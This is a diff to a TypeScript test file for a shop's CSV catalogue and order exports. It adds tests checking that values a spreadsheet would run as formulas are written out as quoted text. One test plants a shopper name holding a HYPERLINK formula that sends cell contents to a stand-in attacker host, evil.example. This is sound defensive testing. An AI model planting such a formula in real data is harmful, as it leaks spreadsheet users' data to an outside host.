@@ -84,7 +84,7 @@ describe("exporting and importing the catalogue", () => {
   it("gives back an identical catalogue when the export is imported again", async () => {
     const before = await adminList();
     const csv = await exportCsv();
-    expect(csv.split("\n")[0]).toBe(header);
+    expect(csv.split("\r\n")[0]).toBe(header);
     const saree = rowsOf(csv).find((row) => row.fabric === "silk" && row.blouse_piece === "yes");
     expect(saree).toMatchObject({ saree_length: "5.5", region: expect.stringMatching(/^[a-z-]+$/) });
 
@@ -93,6 +93,30 @@ describe("exporting and importing the catalogue", () => {
     expect(response.json().summary).toMatchObject({ created: 0, updated: before.length, dryRun: false });
 
     expect(await adminList()).toEqual(before);
+    expect(await exportCsv()).toBe(csv);
+  });
+
+  it("writes a name a spreadsheet would run as a formula as text, and reads it back as it was", async () => {
+    const category = await aCategory(shop.deps.db, { name: "Offers" });
+    const sale = await aProduct(shop.deps.db, {
+      name: "-Sale-",
+      description: "=1+1 pieces, @ half price",
+      categoryId: category.id,
+      options: [{ original: 1200, stock: 3 }],
+      images: [shopImage],
+    });
+    const csv = await exportCsv();
+    const line = csv.split("\r\n").find((each) => each.includes("-Sale-"))!;
+    expect(line).toContain(`,'-Sale-,"'=1+1 pieces, @ half price",Offers,`);
+    expect(line).toMatch(/,NA,1200,1200,3,/);
+
+    const response = await importCsv(csv);
+    expect(response.statusCode, response.body).toBe(200);
+    const [saved] = await shop.deps.db
+      .select({ name: products.name, description: products.description })
+      .from(products)
+      .where(eq(products.id, sale.id));
+    expect(saved).toEqual({ name: "-Sale-", description: "=1+1 pieces, @ half price" });
     expect(await exportCsv()).toBe(csv);
   });
 
@@ -206,7 +230,7 @@ describe("exporting and importing the catalogue", () => {
     expect(response.statusCode, response.body).toBe(200);
     expect(response.json().summary).toMatchObject({ created: 1 });
 
-    const exported = (await exportCsv()).split("\n").find((line) => line.startsWith("zip-saree,"));
+    const exported = (await exportCsv()).split("\r\n").find((line) => line.startsWith("zip-saree,"));
     expect(exported).toMatch(/,yes,,,,,,,NA,1200,1100,4,\/images\/[0-9a-f]{24}-640\.webp\?avif$/);
 
     const notAPicture = await importCsv(`${headerWithoutAttributes}\n${row.replace("front.png", "notes.txt")}\n`, {
@@ -313,9 +337,27 @@ describe("GET /orders/exportOrders", () => {
       url: "/api/v1/orders/exportOrders?from=2025-04-01&to=2025-04-30",
       headers: admin.headers,
     });
-    expect(earlier.body.trim().split("\n")).toEqual([
+    expect(earlier.body.trim().split("\r\n")).toEqual([
       "order_number,date_ist,customer,state,payment_type,status,lines,taxable_value,gst,total,invoice_number",
     ]);
+  });
+
+  it("writes a shopper's name that a spreadsheet would run as a formula as text, and amounts as numbers", async () => {
+    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
+    const buyer = await aShopper(shop.deps.db, { fullname: formula });
+    const saree = await aSaree(shop.deps.db, { stock: 3, price: 1500, name: "-Sale- Kota Saree" });
+    const placed = await payCash(shop, buyer, [{ ...saree, quantity: 1 }]);
+    expect(placed.statusCode, placed.body).toBe(200);
+    const today = new Date(Date.now() + 330 * 60_000).toISOString().slice(0, 10);
+
+    const response = await shop.app.inject({
+      method: "GET",
+      url: `/api/v1/orders/exportOrders?from=${today}&to=${today}`,
+      headers: admin.headers,
+    });
+    expect(response.statusCode).toBe(200);
+    const row = (parse(response.body, { columns: true }) as Row[]).find((each) => each.customer!.includes("HYPERLINK"));
+    expect(row).toMatchObject({ customer: `'${formula}`, lines: "'-Sale- Kota Saree x 1", total: "1500" });
   });
 
   it("refuses a range back to front", async () => {
